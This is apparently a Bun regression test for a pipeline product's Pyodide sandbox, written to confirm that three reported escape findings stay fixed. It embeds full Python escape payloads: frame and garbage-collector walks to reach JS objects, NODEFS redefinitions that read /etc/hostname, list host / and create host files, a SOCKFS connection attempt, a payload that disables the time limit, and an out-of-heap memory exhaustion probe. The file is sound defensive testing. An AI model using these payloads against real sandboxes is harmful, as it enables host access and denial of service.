import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { chmodSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { ClickHouseClient } from "@clickhouse/client";
import { startClickHouse, startNats, startTestNode } from "../harness/services.ts";
import { chClient, rows } from "../harness/warehouse.ts";
import type { RunningNode } from "../../src/node.ts";

/**
 * Issue 15, findings 1–3, from the attacker's side and through the public path only: pipelines in
 * YAML files, events over HTTP with a write key, outcomes read from ClickHouse (`users FINAL`) and
 * from GET /v1/pipelines (lastErrors). Each Python transform tries one technique and says in its
 * result what it got: `{"probe": "<technique>: ESCAPED: <evidence>"}` or `"<technique>: blocked: …"`.
 *
 * What must hold after a fix, whichever way it is done (the transform refused, the attempt raising
 * inside Python, the sandbox killed): no "ESCAPED" evidence, no file created in the directory this
 * test made, no connection to this test's loopback listener, no hang, no big RSS growth. Where the
 * attempt is refused instead, the event fails and its reason is in lastErrors: that is fine.
 * "ESCAPED" means the guest held a JsProxy (any JS object), a JsLoader, a Pyodide API object, or a
 * frame that is neither the user's code nor the standard library (the batch runner's or Pyodide's;
 * its locals are reported, e.g. `tick`).
 *
 * Finding 2 is last: on a sandbox that does not stop the loop, its pipeline never finishes that
 * batch and node.stop() would wait for it (afterAll does not wait longer than 5 s).
 */

const ADMIN = "admin-sandbox-escape-0123456789";
const KEYS = {
  escape: "key-escape-0001",
  loop: "key-loop-0001",
  bystander: "key-bystander-0001",
  memory: "key-memory-0001",
};

const indent = (src: string, n: number) =>
  src
    .split("\n")
    .map((l) => (l.trim() ? " ".repeat(n) + l : ""))
    .join("\n");
const connection = (name: string, key: string, python: string) => `connection: ${name}
source: webhook
writeKeys: ["${key}"]
pipelines:
  - name: ${name}-users
    import: users
    transform:
      python: |
${indent(python, 8)}
`;

/**
 * Finding 1 and its variants. The object-graph walks are breadth-first and resumable: each event goes
 * on with its technique's walk for ~20 ms (an event may run 100 ms), so a batch of events drives it to
 * the end; the frame techniques need one running event. Whatever reaches a Pyodide API object then
 * tries what the review did with it: NODEFS's nested stream_ops /
 * node_ops with realPath, tryFSOperation and flagsForNode redefined (read /etc/hostname, list /,
 * create a file in the test's directory) and SOCKFS.websocket_sock_ops.createPeer to the listener.
 */
const ESCAPE_PY = String.raw`
import sys, builtins, time

USER = globals()
_clock = time.perf_counter
_jst = {}

def is_js(o):
    t = type(o)
    r = _jst.get(t)
    if r is None:
        try:
            r = (not issubclass(t, type)) and any(getattr(c, "__name__", "") == "JsProxy" for c in t.__mro__)
        except BaseException:
            r = False
        _jst[t] = r
    return r

def is_loader(o):
    try:
        return type(o).__name__ == "JsLoader"
    except BaseException:
        return False

def short(o, n=60):
    try:
        return repr(o)[:n].replace("\n", " ")
    except BaseException:
        return "<unrepresentable>"

def is_runner_frame(f):
    # neither the user's code nor the standard library: the batch runner, or Pyodide itself
    try:
        if f.f_globals is USER:
            return False
        return str(f.f_globals.get("__name__", "")).split(".")[0] not in sys.stdlib_module_names
    except BaseException:
        return True

def chain(f, how):
    out = []
    while f is not None and len(out) < 30:
        out.append((how, f))
        f = f.f_back
    return out

def examine(found, ev, apis):
    seen = set()
    for how, o in found:
        if id(o) in seen:
            continue
        seen.add(id(o))
        try:
            if is_loader(o):
                ev.append("JsLoader via %s" % how)
                o = o.jsproxy
            if is_js(o):
                ev.append("JsProxy via %s: %s" % (how, short(o)))
                for k in ("_module", "_api", "runPython"):
                    if hasattr(o, k):
                        ev.append("Pyodide API object (has %s) via %s" % (k, how))
                        apis.append(o)
                        break
            elif type(o).__name__ == "frame" and is_runner_frame(o):
                names = sorted(str(k) for k in o.f_locals.keys())
                ev.append("runner frame %s (%s) via %s, locals %s" % (o.f_code.co_name, o.f_code.co_filename, how, ",".join(names)[:160]))
                for k, v in list(o.f_locals.items()):
                    if is_js(v) or k == "tick":
                        ev.append("runner local %s = %s" % (k, short(v)))
        except BaseException as e:
            ev.append("(examining what %s gave raised %s)" % (how, type(e).__name__))

def attack(api, event, tag):
    done = []
    step = "_module.NODEFS"
    try:
        M = api._module if hasattr(api, "_module") else api
        N = M.NODEFS
        Obj = N.constructor
        step = "redefining NODEFS.realPath/tryFSOperation/flagsForNode"
        def real_path(node):
            return node.p
        def try_op(f):
            return f()
        def flags(fl):
            return fl
        for name, fn in (("realPath", real_path), ("tryFSOperation", try_op), ("flagsForNode", flags)):
            d = Obj.new()
            d.value = fn
            d.configurable = True
            d.writable = True
            Obj.defineProperty(N, name, d)
        def stream(path, fl):
            s = Obj.new(); n = Obj.new(); n.p = path; s.node = n; s.shared = Obj.new(); s.flags = fl
            return s
        try:
            s = stream("/etc/hostname", 0)
            N.stream_ops.open(s)
            buf = M.HEAPU8.constructor.new(256)
            k = N.stream_ops.read(s, buf, 0, 256, 0)
            N.stream_ops.close(s)
            done.append("read host /etc/hostname = %r" % bytes(buf.to_py()[:k]).decode(errors="replace")[:40])
        except BaseException as e:
            done.append("reading /etc/hostname failed: %s" % type(e).__name__)
        try:
            n = Obj.new(); n.p = "/"
            done.append("listed host / = %s" % ",".join(sorted(str(x) for x in N.node_ops.readdir(n).to_py()))[:120])
        except BaseException as e:
            done.append("listing / failed: %s" % type(e).__name__)
        try:
            path = event["dir"] + "/" + tag
            s = stream(path, 64 | 1)  # O_CREAT | O_WRONLY
            N.stream_ops.open(s)
            data = M.HEAPU8.constructor.new(7)
            for i, c in enumerate(b"ESCAPED"):
                data[i] = c
            N.stream_ops.write(s, data, 0, 7, 0)
            N.stream_ops.close(s)
            done.append("created host file " + path)
        except BaseException as e:
            done.append("creating a file failed: %s" % type(e).__name__)
        try:
            sock = Obj.new(); sock.peers = Obj.new(); sock.type = 1; st = Obj.new(); st.fd = 99; sock.stream = st
            M.SOCKFS.websocket_sock_ops.createPeer(sock, "127.0.0.1", int(event["port"]))
            done.append("SOCKFS createPeer opened ws://127.0.0.1:%s" % event["port"])
        except BaseException as e:
            done.append("SOCKFS createPeer failed: %s" % type(e).__name__)
    except BaseException as e:
        done.append("attack stopped at %s: %s" % (step, type(e).__name__))
    return done

# ---- object-graph walks: breadth-first, resumable; each event goes on with them for ~20 ms ------------
from collections import deque
ATOMS = (str, int, float, bytes, bool, type(None))

def attr_kids(o):
    if isinstance(o, dict):
        return list(o.values())
    if isinstance(o, (list, tuple, set, frozenset)):
        return list(o)
    kids = []
    dd = getattr(o, "__dict__", None)
    if isinstance(dd, dict) or type(dd).__name__ == "mappingproxy":
        kids.extend(dd.values())
    for c in getattr(o, "__closure__", None) or ():
        try:
            kids.append(c.cell_contents)
        except ValueError:
            pass
    g = getattr(o, "__globals__", None)
    if isinstance(g, dict):
        kids.append(g)
    for a in ("__func__", "__self__", "__wrapped__"):
        x = getattr(o, a, None)
        if x is not None:
            kids.append(x)
    return kids

def walk(how, roots, kids, cap=150000):
    # yields the number of objects seen so far; returns [(how, object)] for what it found
    found, seen, todo = [], set(), deque(roots)
    while todo and len(seen) < cap and len(found) < 4:
        o = todo.popleft()
        if id(o) in seen or o is USER or o is STATE or isinstance(o, ATOMS):
            continue
        seen.add(id(o))
        if len(seen) % 128 == 0:
            yield len(seen)
        if is_loader(o) or is_js(o):
            found.append(("%s (object %d of the walk)" % (how, len(seen)), o))
            continue
        try:
            todo.extend(kids(o))
        except BaseException:
            pass
    return found

def w_gc_objects():
    import gc
    objs = gc.get_objects()
    found = []
    for n, o in enumerate(objs):
        if n % 1024 == 0:
            yield n
        if is_loader(o) or is_js(o):
            found.append(("gc.get_objects()", o))
    return found

def w_gc_referents():
    import gc
    return (yield from walk("a gc.get_referents() walk from sys.modules", [sys.modules], gc.get_referents))

def w_meta_path():
    roots = list(sys.meta_path) + list(sys.path_hooks) + list(sys.path_importer_cache.values())
    return (yield from walk("an attribute/closure/__globals__ walk from sys.meta_path and the path hooks", roots, attr_kids))

def w_sys_modules():
    return (yield from walk("an attribute/closure/__globals__ walk from sys.modules' modules", list(sys.modules.values()), attr_kids))

def w_subclasses():
    found, seen, todo, globs = [], set(), [object], set()
    while todo:
        c = todo.pop()
        if id(c) in seen:
            continue
        seen.add(id(c))
        if len(seen) % 64 == 0:
            yield len(seen)
        try:
            todo.extend(type.__subclasses__(c))
            items = list(vars(c).values())
        except BaseException:
            continue
        for v in items:
            v = getattr(v, "__func__", v)
            g = getattr(v, "__globals__", None)
            if isinstance(g, dict) and id(g) not in globs and g is not USER:
                globs.add(id(g))
                for k, x in list(g.items()):
                    if is_js(x) or is_loader(x):
                        found.append(("object.__subclasses__() -> %s.__globals__[%r]" % (g.get("__name__"), k), x))
    return found

def w_gc_referrers():
    import gc
    # upward from the user's own function: who holds transform? (the runner's closures); one
    # get_referrers() call (a scan of every object) per step
    found, seen, todo, calls = [], set(), deque([transform]), 0
    while todo and calls < 40 and len(found) < 4:
        o = todo.popleft()
        if id(o) in seen:
            continue
        seen.add(id(o))
        if o is not transform and (is_js(o) or is_loader(o) or type(o).__name__ == "frame"):
            found.append(("gc.get_referrers()", o))
            continue
        if type(o).__name__ == "function" and o is not transform:
            for c in o.__closure__ or ():
                try:
                    v = c.cell_contents
                except ValueError:
                    continue
                if is_js(v) or is_loader(v):
                    found.append(("gc.get_referrers() -> %s.__closure__" % o.__qualname__, v))
        if isinstance(o, (dict, list)):
            continue
        calls += 1
        yield calls
        for r in gc.get_referrers(o):
            if r is USER or r is todo or r is seen or r is STATE or type(r).__name__ in ("frame", "generator"):
                continue
            todo.append(r)
    return found

WALKS = {"gc_objects": w_gc_objects, "gc_referents": w_gc_referents, "gc_referrers": w_gc_referrers, "meta_path": w_meta_path,
         "sys_modules": w_sys_modules, "subclasses": w_subclasses}
STATE = {}

def resume(tech, event):
    st = STATE.get(tech)
    if st is None:
        st = STATE[tech] = {"gen": WALKS[tech](), "seen": 0, "verdict": None}
    if st["verdict"] is None:
        end = _clock() + 0.02
        try:
            while _clock() < end:
                st["seen"] = next(st["gen"])
        except StopIteration as done:
            st["verdict"] = verdict(tech, event, done.value or [])
        except BaseException:
            STATE.pop(tech, None)  # interrupted (time limit): start again with the next event
            raise
    return st["verdict"] or "%s: walking (%d objects so far)" % (tech, st["seen"])

# ---- techniques that need the running event (the runner's frames exist only then) ---------------
def t_getframe(event):
    return chain(sys._getframe(0), "sys._getframe(0).f_back") + chain(sys._getframe(2), "sys._getframe(2)")

def t_tb_frame(event):
    try:
        raise ValueError("probe")
    except ValueError as e:
        return chain(e.__traceback__.tb_frame, "__traceback__.tb_frame.f_back")

def t_inspect(event):
    import inspect
    found = chain(inspect.currentframe(), "inspect.currentframe()")
    for fi in inspect.stack(0):
        found.append(("inspect.stack()", fi.frame))
    return found

def t_gi_frame(event):
    box = {}
    def gen():
        yield box["g"].gi_frame.f_back
    g = gen()
    box["g"] = g
    return chain(next(g), "generator gi_frame.f_back")

class Probe(Exception):
    """str() of this exception runs in whoever describes it; its __context__ shows their frames."""
    def __init__(self, event):
        self.event = event
    def __str__(self):
        found = []
        try:
            try:
                raise RuntimeError("probe")
            except RuntimeError as r:
                ctx = r.__context__
            while ctx is not None and len(found) < 60:
                tb = ctx.__traceback__
                while tb is not None:
                    found.extend(chain(tb.tb_frame, "exception __context__.__traceback__.tb_frame"))
                    tb = tb.tb_next
                ctx = ctx.__context__
        except BaseException as e:
            return "context: blocked: %s" % type(e).__name__
        return verdict("context", self.event, found)

def i_js():
    import js
def i_pyodide_ffi():
    import pyodide.ffi
def i_to_js():
    from pyodide.ffi import to_js
def i_ctypes():
    import ctypes
def i_subprocess():
    import subprocess
def i_socket():
    import socket
def i_system():
    import os
    return os.system("true")
def i_passwd():
    return open("/etc/passwd").read()[:40]

def t_imports(event):
    out = []
    for label, f in (("import js", i_js), ("import pyodide.ffi", i_pyodide_ffi), ("from pyodide.ffi import to_js", i_to_js),
                     ("import ctypes", i_ctypes), ("import subprocess", i_subprocess), ("import socket", i_socket),
                     ("os.system", i_system), ("open('/etc/passwd')", i_passwd)):
        try:
            r = f()
            out.append("%s ALLOWED (%s)" % (label, short(r, 40)))
        except BaseException as e:
            out.append("%s refused (%s)" % (label, type(e).__name__))
    return "; ".join(out)

TECHNIQUES = {"getframe": t_getframe, "tb_frame": t_tb_frame,
              "inspect": t_inspect, "gi_frame": t_gi_frame}

def verdict(tech, event, found):
    ev, apis = [], []
    examine(found, ev, apis)
    for a in apis[:1]:
        ev.extend(attack(a, event, tech))
    if ev:
        return ("%s: ESCAPED: %s" % (tech, "; ".join(ev)))[:1900]
    return "%s: blocked: nothing reached (%d objects found)" % (tech, len(found))

def transform(event):
    t = event.get("traits") or {}
    tech = t.get("technique")
    if tech == "context":
        raise Probe(t)
    if tech == "imports":
        return {"probe": t_imports(t)}
    try:
        if tech in WALKS:
            return {"probe": resume(tech, t)}
        found = TECHNIQUES[tech](t)
    except BaseException as e:
        return {"probe": "%s: blocked: %s: %s" % (tech, type(e).__name__, str(e)[:200])}
    return {"probe": verdict(tech, t, found)}
`;

/**
 * Finding 2: the runner's `tick`, reached through a frame, called for every remaining index (the
 * batch looks done, the deadline becomes Infinity), then an endless loop. Without `tick` it loops
 * anyway: the loop must be stopped either way.
 */
const LOOP_PY = String.raw`
import sys

def frames(how):
    if how == "getframe":
        f = sys._getframe(0)
    elif how == "tb_frame":
        try:
            raise ValueError("probe")
        except ValueError as e:
            f = e.__traceback__.tb_frame
    elif how == "gi_frame":
        box = {}
        def gen():
            yield box["g"].gi_frame.f_back
        box["g"] = gen()
        f = next(box["g"])
    else:
        f = None
    while f is not None:
        yield f
        f = f.f_back

def transform(event):
    t = event.get("traits") or {}
    how = t.get("evil")
    if not how:
        return {"probe": "normal " + str(t.get("n"))}
    try:
        for f in frames(how):
            loc = f.f_locals
            if "tick" in loc:
                tick, events, i = loc["tick"], loc["events"], loc["i"]
                for j in range(i + 1, len(events) + 1):
                    tick(j)
                break
    except BaseException:
        pass
    while True:
        pass
`;

const BYSTANDER_PY = String.raw`
def transform(event):
    return {"probe": "bystander " + str((event.get("traits") or {}).get("n"))}
`;

/**
 * Finding 3: JS memory through the leftover API object (a 16 MiB filled Uint8Array, copied with
 * slice() as often as fits in ~40 ms of each event, all kept). Without a JS object, every 16th event
 * allocates 96 MiB inside the interpreter instead, which must run into the 64 MiB cap (so a fixed
 * sandbox fails those events, and is restarted only a few times).
 */
const MEMORY_PY = String.raw`
import time
KEEP = []
API = None
SEED = None
MiB = 1024 * 1024
try:
    import gc
    for _o in gc.get_objects():
        if type(_o).__name__ == "JsLoader" and hasattr(_o.jsproxy, "_module"):
            API = _o.jsproxy
            break
except BaseException:
    pass

def transform(event):
    global SEED
    t = event.get("traits") or {}
    if t.get("warmup"):
        return {"probe": "warm"}
    start = time.perf_counter()
    try:
        if SEED is None:
            SEED = API._module.HEAPU8.constructor.new(16 * MiB)
            SEED.fill(7)
        n = 0
        while n < 16 and time.perf_counter() - start < 0.04:
            KEEP.append(SEED.slice())
            n += 1
        return {"probe": "ESCAPED: holding %d MiB of JS memory outside the heap cap" % (len(KEEP) * 16)}
    except (MemoryError, KeyboardInterrupt):
        raise
    except BaseException as e:
        where = type(e).__name__
    if t.get("n", 0) % 16 == 0:
        KEEP.append(bytearray(96 * MiB))  # more than the whole cap
        return {"probe": "not capped: holding 96 MiB inside the interpreter (%s)" % where}
    return {"probe": "no JS object reached (%s)" % where}
`;

const files = {
  "customer-model.yaml": "customerModel:\n  probe: string\n",
  "escape.yaml": connection("escape", KEYS.escape, ESCAPE_PY),
  "loop.yaml": connection("loop", KEYS.loop, LOOP_PY),
  "bystander.yaml": connection("bystander", KEYS.bystander, BYSTANDER_PY),
  "memory.yaml": connection("memory", KEYS.memory, MEMORY_PY),
};

let nats: Awaited<ReturnType<typeof startNats>>;
let ch: Awaited<ReturnType<typeof startClickHouse>>;
let node: RunningNode;
let db: ClickHouseClient;
/** The directory the guest tries to create files in; checked from outside. */
const target = mkdtempSync(join(tmpdir(), "tributary-escape-target-"));

/** A loopback listener the guest tries to reach; records every connection's first line. */
async function loopbackListener() {
  const connections: string[] = [];
  const server: Server = createServer((s) => {
    const i = connections.push("(connected)") - 1;
    s.on("data", (d) => (connections[i] = String(d).split("\r\n")[0]!));
    s.on("error", () => {});
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
  return { port: (server.address() as { port: number }).port, connections, close: () => server.close() };
}

beforeAll(async () => {
  [nats, ch] = await Promise.all([startNats(), startClickHouse()]);
  db = chClient(ch.url);
  node = await startTestNode(nats.url, files, { clickhouseUrl: ch.url, batchMaxAgeMs: 100, adminToken: ADMIN });
  await node.pipelinesReady;
}, 120_000);

afterAll(async () => {
  // A pipeline whose transform never returns keeps node.stop() waiting: do not wait for it forever.
  await Promise.race([node?.stop(), Bun.sleep(5_000)]);
  if (node) rmSync(node.config.options.dir, { recursive: true, force: true }); // stop() removes it only when it finishes
  await db?.close();
  await Promise.all([nats?.cleanup(), ch?.cleanup()]);
  rmSync(target, { recursive: true, force: true });
}, 60_000);

let seq = 0;
const post = async (key: string, events: Record<string, unknown>[]) => {
  const r = await fetch(`${node.url}/v1/batch`, {
    method: "POST",
    headers: { Authorization: `Bearer ${key}` },
    body: JSON.stringify({ batch: events }),
  });
  expect(r.status).toBe(200);
};
const identify = (userId: string, traits: Record<string, unknown>) => ({
  type: "identify",
  userId,
  messageId: `${userId}-${seq++}`,
  traits,
});

/** lastErrors of the connection's pipelines; undefined when none of them is running (its transform did not load). */
async function lastErrors(connectionName: string): Promise<{ messageId?: string; error: string }[] | undefined> {
  const r = await fetch(`${node.url}/v1/pipelines`, { headers: { Authorization: `Bearer ${ADMIN}` } });
  const body = (await r.json()) as {
    pipelines: { connection: string; lastErrors: { messageId?: string; error: string }[] }[];
  };
  const mine = body.pipelines.filter((p) => p.connection === connectionName);
  return mine.length ? mine.flatMap((p) => p.lastErrors) : undefined;
}

type Outcome = { loaded: string } | { failed: string } | { processed: true };
/**
 * Waits until each event is loaded (its users row) or failed (its messageId in lastErrors). A
 * pipeline handles its events in order and lastErrors keeps the last 20: once the last event has
 * an outcome, an earlier one still without any after a few more seconds was processed and its error
 * scrolled out of lastErrors (`processed`). An event whose outcome never shows is `undefined`.
 */
async function outcomes(
  connectionName: string,
  events: { userId: string; messageId: string }[],
  timeoutMs: number,
): Promise<Map<string, Outcome | undefined>> {
  const out = new Map<string, Outcome | undefined>(events.map((e) => [e.messageId, undefined]));
  const deadline = Date.now() + timeoutMs;
  const started = Date.now();
  let lastSeenAt: number | undefined;
  for (;;) {
    const ids = events.map((e) => `'${e.userId}'`).join(",");
    const loaded = await rows<{ user_id: string; probe: string | null }>(
      db,
      `SELECT user_id, probe FROM tributary.users FINAL WHERE user_id IN (${ids})`,
    ).catch(() => []);
    const errors = await lastErrors(connectionName).catch(() => []);
    if (errors === undefined) {
      if (Date.now() - started > 5000) {
        const why = (await node.pipelinesReady).lastError ?? "see the node's log";
        throw new Error(`no pipeline of connection "${connectionName}" is running: ${why}`);
      }
      await Bun.sleep(200);
      continue;
    }
    for (const e of events) {
      const row = loaded.find((r) => r.user_id === e.userId);
      const err = errors.find((x) => x.messageId === e.messageId);
      if (row) out.set(e.messageId, { loaded: row.probe ?? "" });
      else if (err) out.set(e.messageId, { failed: err.error });
    }
    if ([...out.values()].every((o) => o !== undefined) || Date.now() > deadline) return out;
    if (out.get(events.at(-1)!.messageId) !== undefined) {
      lastSeenAt ??= Date.now();
      if (Date.now() - lastSeenAt > 3000) {
        for (const [id, o] of out) if (o === undefined) out.set(id, { processed: true });
        return out;
      }
    }
    await Bun.sleep(200);
  }
}
const text = (o: Outcome | undefined) =>
  o === undefined
    ? "(no outcome)"
    : "loaded" in o
      ? o.loaded
      : "failed" in o
        ? `failed: ${o.failed}`
        : "(processed; its error is no longer in lastErrors)";

/** RSS of this process (the node runs in it) and of its descendants that are not NATS or ClickHouse (a sandbox process). */
function sandboxHostRssMiB(): number {
  const vmRss = (pid: number) => {
    try {
      const m = /VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, "utf8"));
      return m ? Number(m[1]) / 1024 : 0;
    } catch {
      return 0;
    }
  };
  const children = new Map<number, number[]>();
  for (const d of readdirSync("/proc")) {
    if (!/^\d+$/.test(d)) continue;
    try {
      const stat = readFileSync(`/proc/${d}/stat`, "utf8");
      const ppid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
      children.set(ppid, [...(children.get(ppid) ?? []), Number(d)]);
    } catch {}
  }
  let total = vmRss(process.pid);
  const todo = [...(children.get(process.pid) ?? [])];
  while (todo.length) {
    const pid = todo.pop()!;
    let exe = "";
    try {
      exe = readlinkSync(`/proc/${pid}/exe`);
    } catch {}
    if (/nats-server|clickhouse/.test(exe)) continue;
    total += vmRss(pid);
    todo.push(...(children.get(pid) ?? []));
  }
  return total;
}

describe("finding 1: Python reaches no JS object, host file system or network", () => {
  const techniques: [string, string][] = [
    ["gc_objects", "gc.get_objects() → JsLoader.jsproxy → _module.NODEFS / SOCKFS"],
    ["gc_referents", "a gc.get_referents() walk from sys.modules"],
    ["gc_referrers", "gc.get_referrers() upward from transform (the runner's closures)"],
    ["getframe", "sys._getframe() and its f_back chain"],
    ["tb_frame", "__traceback__.tb_frame and its f_back chain"],
    ["inspect", "inspect.currentframe() / inspect.stack()"],
    ["gi_frame", "a running generator's gi_frame.f_back"],
    ["context", "exception __context__ (str() of a raised exception, called by the runner)"],
    ["meta_path", "sys.meta_path finders and path hooks"],
    ["subclasses", "object.__subclasses__() → methods' __globals__"],
    ["sys_modules", "sys.modules leftovers (module attributes, their closures and __globals__)"],
  ];
  /** The walks go on for ~20 ms per event (the per-event limit is 100 ms): one batch of events drives them to the end. */
  const walks = new Set(["gc_objects", "gc_referents", "gc_referrers", "meta_path", "sys_modules", "subclasses"]);
  for (const [technique, how] of techniques) {
    test(`${technique}: ${how} gives no JsProxy, Pyodide API object or runner frame; no file, no connection`, async () => {
      const dir = join(target, technique);
      mkdirSync(dir);
      chmodSync(dir, 0o777); // writable whatever uid the sandbox runs as: only the sandbox can keep a file out
      const { port, connections, close } = await loopbackListener();
      try {
        const events = Array.from({ length: walks.has(technique) ? 30 : 1 }, (_, k) =>
          identify(`escape-${technique}-${k}`, { technique, dir, port }),
        );
        await post(KEYS.escape, events);
        const got = await outcomes("escape", events, 45_000);
        await Bun.sleep(500); // a WebSocket connects after the event returned
        const seen = [...new Set(events.map((e) => text(got.get(e.messageId))))];
        const evidence = { technique, outcomes: seen, filesCreated: readdirSync(dir), connections: [...connections] };
        console.log(`escape probe ${technique}:`, JSON.stringify(evidence).slice(0, 600));
        expect(evidence).toEqual({
          technique,
          outcomes: seen.map(() => expect.not.stringMatching(/ESCAPED|^\(no outcome\)$/)),
          filesCreated: [],
          connections: [],
        });
      } finally {
        close();
      }
    }, 60_000);
  }

  test("what held keeps holding: js, pyodide.ffi, ctypes, subprocess, socket, os.system and open('/etc/passwd') are refused", async () => {
    const e = identify("escape-imports", { technique: "imports" });
    await post(KEYS.escape, [e]);
    const o = (await outcomes("escape", [e], 30_000)).get(e.messageId);
    expect(o, "no outcome for the import probe").toBeDefined();
    const t = text(o);
    expect(t).not.toContain("ALLOWED");
    if ("loaded" in o!) {
      for (const label of [
        "import js",
        "import pyodide.ffi",
        "from pyodide.ffi import to_js",
        "import ctypes",
        "import subprocess",
        "import socket",
        "os.system",
        "open('/etc/passwd')",
      ]) {
        expect(t).toContain(`${label} refused (`);
      }
    }
  }, 45_000);
});

describe("finding 3: memory outside the interpreter's heap counts against the cap", () => {
  test("64 MiB limit: JS memory through leftover API objects does not grow the sandbox host by 512 MiB; the events fail", async () => {
    const warm = identify("memory-warmup", { warmup: true });
    await post(KEYS.memory, [warm]);
    expect(text((await outcomes("memory", [warm], 30_000)).get(warm.messageId))).toBe("warm");
    Bun.gc(true);
    const before = sandboxHostRssMiB();
    let peak = before;
    const sampler = setInterval(() => (peak = Math.max(peak, sandboxHostRssMiB())), 100);
    const events = Array.from({ length: 48 }, (_, i) => identify(`memory-${i}`, { n: i }));
    try {
      await post(KEYS.memory, events);
      const got = await outcomes("memory", events, 60_000);
      await Bun.sleep(500);
      peak = Math.max(peak, sandboxHostRssMiB());
      const all = [...got.values()];
      const summary = {
        growthMiB: Math.round(peak - before),
        noOutcome: all.filter((o) => o === undefined).length,
        escaped: all.filter((o) => text(o).includes("ESCAPED")).length,
        failed: all.filter((o) => o !== undefined && "failed" in o).length,
        sample: text(all.findLast((o) => o !== undefined)),
      };
      console.log(`memory probe: RSS ${Math.round(before)} → ${Math.round(peak)} MiB`, JSON.stringify(summary));
      expect({ ...summary, growthUnder512MiB: summary.growthMiB < 512, someFailed: summary.failed > 0 }).toMatchObject({
        escaped: 0,
        noOutcome: 0,
        growthUnder512MiB: true,
        someFailed: true,
      });
    } finally {
      clearInterval(sampler);
    }
  }, 90_000);
});

describe("finding 2: Python cannot switch off its own time limit", () => {
  test("tick() reached through _getframe, tb_frame or gi_frame, then an endless loop: the event fails on the time limit, the others load", async () => {
    const normal = (n: number) => identify(`loop-normal-${n}`, { n });
    const evil = (how: string) => identify(`loop-evil-${how}`, { evil: how });
    const batch = [normal(1), evil("getframe"), normal(2), evil("tb_frame"), normal(3), evil("gi_frame"), normal(4)];
    await post(KEYS.loop, batch);
    // Afterwards, on another connection and pipeline.
    const others = [1, 2, 3].map((n) => identify(`bystander-${n}`, { n }));
    await post(KEYS.bystander, others);
    const [got, gotOthers] = await Promise.all([
      outcomes("loop", batch, 60_000),
      outcomes("bystander", others, 60_000),
    ]);
    const seen = Object.fromEntries(
      [...batch, ...others].map((e) => [e.userId, text(got.get(e.messageId) ?? gotOthers.get(e.messageId))]),
    );
    expect(seen).toEqual({
      "loop-normal-1": "normal 1",
      "loop-evil-getframe": expect.stringMatching(/^failed: .*time limit/i),
      "loop-normal-2": "normal 2",
      "loop-evil-tb_frame": expect.stringMatching(/^failed: .*time limit/i),
      "loop-normal-3": "normal 3",
      "loop-evil-gi_frame": expect.stringMatching(/^failed: .*time limit/i),
      "loop-normal-4": "normal 4",
      "bystander-1": "bystander 1",
      "bystander-2": "bystander 2",
      "bystander-3": "bystander 3",
    });
  }, 90_000);
});
